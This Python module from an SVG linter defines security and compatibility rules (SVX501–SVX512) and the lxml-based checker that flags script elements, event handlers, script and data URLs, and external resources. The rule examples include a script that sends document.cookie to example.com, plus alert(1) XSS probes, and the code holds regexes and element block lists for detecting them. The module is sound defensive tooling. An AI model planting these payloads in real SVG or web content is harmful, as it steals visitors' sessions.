"""SVX5xx: safety, browser compatibility and limits."""

from __future__ import annotations

import functools
import re
from collections.abc import Iterator

from lxml import etree

from ..diagnostics import Diagnostic, Edit, Fix, Span
from ..documents import FileKind
from ..engine import CheckContext, check_function
from ..rules import define
from ..xmlread import ARX_NAMESPACES, SVG_NS, SvgxDoc, attributes, is_arx, local, namespace, select
from .schema import XLINK_HREF, did_you_mean

XHTML_NS = "http://www.w3.org/1999/xhtml"

define(
    "SVX501", "disallowed-element", "error",
    "An element that can run code or embed other documents: script, iframe, canvas, audio, "
    "video, html, marquee, embed, object.",
    why="Symbols and drawings come from other people and are opened in browsers and viewers; "
    "an SVG that runs script is an attack, not a drawing.",
    example='<svg …>\n  <script>fetch("https://example.com/?" + document.cookie)</script>\n</svg>',
    fixed="<svg …>\n</svg>",
    fix="remove the element",
)
define(
    "SVX502", "event-handler", "error",
    "An event-handler attribute (`onclick`, `onload`, any `on*`).",
    why="Event handlers are script. Behavior belongs in `arx:behavior` triggers, which are data.",
    example='<rect width="10" height="10" onclick="alert(1)"/>',
    fixed='<rect width="10" height="10"/>',
    fix="remove the attribute",
)
define(
    "SVX503", "script-url", "error",
    "A `javascript:` or `vbscript:` URL, or a `data:` URL of an executable type (HTML, SVG, "
    "script).",
    why="These URLs run code when the link or resource is followed.",
    example='<a href="javascript:alert(1)"><text>open</text></a>',
    fixed='<a href="#details"><text>open</text></a>',
)
define(
    "SVX504", "external-resource", "warning",
    "A reference to a resource outside the file: an http(s) or protocol-relative `href`/`src`, "
    "CSS `url()` or `@import` of a remote address.",
    why="External resources leak who opens the drawing, break offline and change under you.",
    example='<image href="https://cdn.example.com/logo.png" width="10" height="10"/>',
    fixed='<image href="data:image/png;base64,iVBORw0…" width="10" height="10"/>',
)
define(
    "SVX505", "unknown-svg-element", "warning",
    "An element in the SVG namespace that is not part of SVG (often a typo: `<rectt>`).",
    why="Browsers ignore unknown elements: what it was meant to draw is not drawn.",
    example='<rectt width="10" height="10"/>',
    fixed='<rect width="10" height="10"/>',
)
define(
    "SVX506", "nesting-too-deep", "warning",
    "Elements nested deeper than the limit (`limits.max-depth`, default 12).",
    why="Deep nesting makes drawings slow to render and hard to edit, and is typical of "
    "machine-generated or hostile files.",
    example="<g><g><g><g><g><g><g><g><g><g><g><g><rect/></g></g></g></g></g></g></g></g></g></g></g></g>",
    fixed="<g><rect/></g>",
)
define(
    "SVX507", "symbol-too-large", "warning",
    "A symbol file larger than the limit (`limits.max-symbol-size`, default 100 KB).",
    why="Symbols are placed many times in a drawing: their size multiplies.",
    example="a 250 KB symbol with embedded bitmaps",
    fixed="the same symbol as vector paths, under 100 KB",
)
define(
    "SVX508", "metadata-too-large", "warning",
    "An `svg:metadata` element larger than the limit (`limits.max-metadata-size`, default 200 KB).",
    why="Metadata is loaded with every drawing but never drawn; large blobs belong elsewhere.",
    example="<metadata>…300 KB of RDF…</metadata>",
    fixed="<metadata>…the arx:symbol and a reference…</metadata>",
)
define(
    "SVX509", "no-viewport", "warning",
    "The root `svg` has neither a `viewBox` nor both `width` and `height`.",
    why="Without a viewport the drawing's scale is up to each viewer: symbols land at the wrong size.",
    example='<svg xmlns="http://www.w3.org/2000/svg">…</svg>',
    fixed='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 800 600">…</svg>',
)
define(
    "SVX510", "inline-style", "off",
    "An inline `style` attribute (off by default; select it to enforce presentation attributes "
    "or classes).",
    why="Inline styles are hard to theme and to check; presentation attributes are not.",
    example='<rect style="fill:#cccccc;stroke:#000000" width="10" height="10"/>',
    fixed='<rect fill="#cccccc" stroke="#000000" width="10" height="10"/>',
)
define(
    "SVX511", "foreign-html", "error",
    "A `foreignObject` holding HTML.",
    why="HTML inside SVG brings forms, links and scripting surfaces that SVGX does not need.",
    example='<foreignObject width="100" height="20">'
    '<div xmlns="http://www.w3.org/1999/xhtml">Hi</div></foreignObject>',
    fixed='<text x="0" y="15">Hi</text>',
)
define(
    "SVX512", "no-title", "info",
    "The root `svg` has no `title` or `desc` child.",
    why="Screen readers announce the title; without it the drawing is an unnamed image.",
    example='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>',
    fixed='<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
    '<title>Panel</title><rect width="10" height="10"/></svg>',
)

DISALLOWED = frozenset({"script", "iframe", "canvas", "audio", "video", "html", "marquee", "embed", "object"})

# SVG 1.1 and SVG 2 elements (the allowed set).
SVG_ELEMENTS = frozenset(
    """a animate animateColor animateMotion animateTransform circle clipPath color-profile cursor defs
    desc discard ellipse feBlend feColorMatrix feComponentTransfer feComposite feConvolveMatrix
    feDiffuseLighting feDisplacementMap feDistantLight feDropShadow feFlood feFuncA feFuncB feFuncG
    feFuncR feGaussianBlur feImage feMerge feMergeNode feMorphology feOffset fePointLight
    feSpecularLighting feSpotLight feTile feTurbulence filter font font-face font-face-format
    font-face-name font-face-src font-face-uri foreignObject g glyph glyphRef hatch hatchpath hkern
    image line linearGradient marker mask mesh meshgradient meshpatch meshrow metadata missing-glyph
    mpath path pattern polygon polyline radialGradient rect set solidcolor stop style svg switch
    symbol text textPath title tref tspan unknown use view vkern""".split()
)

_SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript)\s*:", re.I)
_DATA_URL = re.compile(r"^\s*data\s*:\s*([^;,]*)", re.I)
_EXECUTABLE_DATA = re.compile(
    r"^(text/html|application/xhtml\+xml|image/svg\+xml|text/javascript|"
    r"application/javascript|application/ecmascript|text/ecmascript|text/xml|application/xml)$",
    re.I,
)
_EXTERNAL = re.compile(r"^\s*(https?:)?//", re.I)
_CSS_URL = re.compile(r"""url\(\s*(['"]?)([^'")]*)\1\s*\)|@import\s+(?:url\(\s*)?(['"]?)([^'"\s;)]+)""", re.I)
_URL_ATTRS = {"href", XLINK_HREF, "src"}
_DISALLOWED_TAGS = (
    *(f"{{{ns}}}{n}" for ns in (SVG_NS, XHTML_NS) for n in sorted(DISALLOWED)),
    *sorted(DISALLOWED),
)
_ARX_ANY = tuple(f"{{{ns}}}*" for ns in ARX_NAMESPACES)




@functools.lru_cache(maxsize=16)
def _depth_xpath(depth: int) -> etree.XPath:
    """Elements exactly ``depth`` deep (the root is 1): the first too deep on each branch."""
    return etree.XPath("/" + "/".join(["*"] * depth))


def _attr_removal(doc: SvgxDoc, el: etree._Element, key: str) -> Span:
    span = doc.attr_span(el, key)
    start = span.start
    while start > 0 and doc.text[start - 1] in " \t\r\n":
        start -= 1
    return Span(start, span.end)


def _sub_span(doc: SvgxDoc, el: etree._Element, key: str, start: int, end: int) -> Span:
    mapped = doc.attr_value_offsets(el, key)
    if mapped is None:
        return doc.attr_value_span(el, key)
    _, offsets = mapped
    end = min(end, len(offsets) - 1)
    start = min(start, end)
    return Span(offsets[start], offsets[end])


class _Compliance:
    def __init__(self, ctx: CheckContext) -> None:
        self.ctx = ctx
        self.doc = ctx.svgx
        self.limits = ctx.settings.limits

    def run(self) -> Iterator[Diagnostic]:
        """Targeted passes: lxml selects the few elements and attributes that matter in C."""
        doc, root = self.doc, self.doc.root
        if root is None:
            return
        yield from self.root_checks(root)
        yield from self.size_checks(root)
        max_depth = self.limits.max_depth
        for el in select(_depth_xpath(max_depth + 1), root):
            if isinstance(el.tag, str):
                yield self.ctx.report(
                    "SVX506",
                    doc.tag_span(el),
                    f"<{local(el.tag)}> is nested {max_depth + 1} deep, "
                    f"over the limit of {max_depth} (limits.max-depth)",
                )
        removed: set[etree._Element] = set()
        for el in root.iter(*_DISALLOWED_TAGS):
            if any(a in removed for a in el.iterancestors()):
                continue  # removing the outer one removes this one
            removed.add(el)
            yield self.ctx.report(
                "SVX501",
                doc.tag_span(el),
                f"<{local(el.tag)}> is not allowed in SVGX: it can run code or embed documents",
                fix=Fix("remove the element", (Edit(doc.removal_span(el), ""),)),
            )
        data_elements = {
            d for top in root.iter(f"{{{SVG_NS}}}metadata", *_ARX_ANY) for d in top.iter() if d is not top
        }
        allowed = SVG_ELEMENTS | DISALLOWED
        for el in root.iter(f"{{{SVG_NS}}}*"):
            name = local(el.tag)
            if name not in allowed and el not in data_elements:
                yield self.ctx.report(
                    "SVX505", doc.tag_span(el), f"<{name}> is not an SVG element{did_you_mean(name, SVG_ELEMENTS)}"
                )
        for el in root.iter(f"{{{SVG_NS}}}foreignObject"):
            html = next((c for c in el.iter() if c is not el and isinstance(c.tag, str)
                         and (namespace(c.tag) == XHTML_NS or local(c.tag) in ("html", "body", "div"))), None)
            if html is not None:
                yield self.ctx.report("SVX511", doc.tag_span(el), f"foreignObject holds HTML (<{local(html.tag)}>)")
        for el in root.iter(f"{{{SVG_NS}}}style"):
            yield from self.css_text(el)
        for el in doc.attribute_index.notable:
            if not is_arx(el.tag):
                yield from self.attribute_checks(el)

    def root_checks(self, root: etree._Element) -> Iterator[Diagnostic]:
        doc = self.doc
        if local(root.tag) != "svg":
            return
        if root.get("viewBox") is None and (root.get("width") is None or root.get("height") is None):
            yield self.ctx.report(
                "SVX509", doc.tag_span(root),
                "the root <svg> has no viewport: give it a viewBox, or both width and height",
            )
        if not any(isinstance(c.tag, str) and local(c.tag) in ("title", "desc") for c in root):
            yield self.ctx.report("SVX512", doc.tag_span(root), "the root <svg> has no <title> or <desc>")

    def size_checks(self, root: etree._Element) -> Iterator[Diagnostic]:
        doc = self.doc
        is_symbol = False
        for md in root.iter(f"{{{SVG_NS}}}metadata"):
            span = doc.element_span(md)
            size = len(doc.text[span.start : span.end].encode("utf-8", "surrogatepass"))
            if size > self.limits.max_metadata_size:
                yield self.ctx.report(
                    "SVX508", doc.tag_span(md),
                    f"metadata is {size:,} bytes, "
                    f"over the limit of {self.limits.max_metadata_size:,} (limits.max-metadata-size)",
                )
            if any(is_arx(c.tag) and local(c.tag) == "symbol" for c in md):
                is_symbol = True
        if is_symbol:
            size = len(doc.text.encode("utf-8", "surrogatepass"))
            if size > self.limits.max_symbol_size:
                yield self.ctx.report(
                    "SVX507", doc.tag_span(root),
                    f"symbol file is {size:,} bytes, "
                    f"over the limit of {self.limits.max_symbol_size:,} (limits.max-symbol-size)",
                )

    def attribute_checks(self, el: etree._Element) -> Iterator[Diagnostic]:
        doc = self.doc
        for key, value in attributes(el):
            lname = local(key)
            if lname.lower().startswith("on") and namespace(key) is None:
                yield self.ctx.report(
                    "SVX502", doc.attr_name_span(el, key),
                    f"event handler {lname}= is script; SVGX behavior belongs in arx:behavior triggers",
                    fix=Fix(f"remove the {lname} attribute", (Edit(_attr_removal(doc, el, key), ""),)),
                )
                continue
            if key == "style":
                yield self.ctx.report("SVX510", doc.attr_name_span(el, key),
                                      "inline style attribute; use presentation attributes or a class")
                yield from self.css_urls(el, key, value)
                continue
            if key in _URL_ATTRS:
                yield from self.url(el, key, value)
            elif "url(" in value:
                yield from self.css_urls(el, key, value)

    def url(self, el: etree._Element, key: str, value: str) -> Iterator[Diagnostic]:
        doc = self.doc
        shown = local(key) if key != XLINK_HREF else "xlink:href"
        sm = _SCRIPT_URL.match(value)
        if sm:
            yield self.ctx.report("SVX503", doc.attr_value_span(el, key),
                                  f"{shown} is a {sm.group(1).lower()}: URL, which runs code")
            return
        dm = _DATA_URL.match(value)
        if dm:
            if _EXECUTABLE_DATA.match(dm.group(1).strip()):
                yield self.ctx.report("SVX503", doc.attr_value_span(el, key),
                                      f"{shown} is a data: URL of type {dm.group(1).strip()}, which can run code")
            return
        if _EXTERNAL.match(value):
            yield self.ctx.report("SVX504", doc.attr_value_span(el, key),
                                  f"{shown} loads an external resource ({value.strip()[:60]})")

    def css_urls(self, el: etree._Element, key: str, value: str) -> Iterator[Diagnostic]:
        for m in _CSS_URL.finditer(value):
            target = m.group(2) if m.group(2) is not None else m.group(4)
            start = m.start(2) if m.group(2) is not None else m.start(4)
            span = _sub_span(self.doc, el, key, start, start + len(target))
            yield from self._css_target(target, span)

    def css_text(self, el: etree._Element) -> Iterator[Diagnostic]:
        text = el.text or ""
        if "url(" not in text and "@import" not in text:
            return
        base = self.doc.text_span(el)
        raw = self.doc.text[base.start : base.end]
        for m in _CSS_URL.finditer(raw):
            target = m.group(2) if m.group(2) is not None else m.group(4)
            start = base.start + (m.start(2) if m.group(2) is not None else m.start(4))
            yield from self._css_target(target, Span(start, start + len(target)))

    def _css_target(self, target: str, span: Span) -> Iterator[Diagnostic]:
        if _SCRIPT_URL.match(target):
            yield self.ctx.report("SVX503", span, f"CSS url() with a script URL ({target[:40]})")
        elif _DATA_URL.match(target) and _EXECUTABLE_DATA.match(_DATA_URL.match(target).group(1).strip()):  # type: ignore[union-attr]
            yield self.ctx.report("SVX503", span, "CSS url() with an executable data: URL")
        elif _EXTERNAL.match(target):
            yield self.ctx.report("SVX504", span, f"CSS loads an external resource ({target[:60]})")


@check_function(
    "compliance",
    frozenset({FileKind.SVGX}),
    ("SVX501", "SVX502", "SVX503", "SVX504", "SVX505", "SVX506", "SVX507", "SVX508", "SVX509",
     "SVX510", "SVX511", "SVX512"),
)
def compliance(ctx: CheckContext) -> Iterator[Diagnostic]:
    yield from _Compliance(ctx).run()
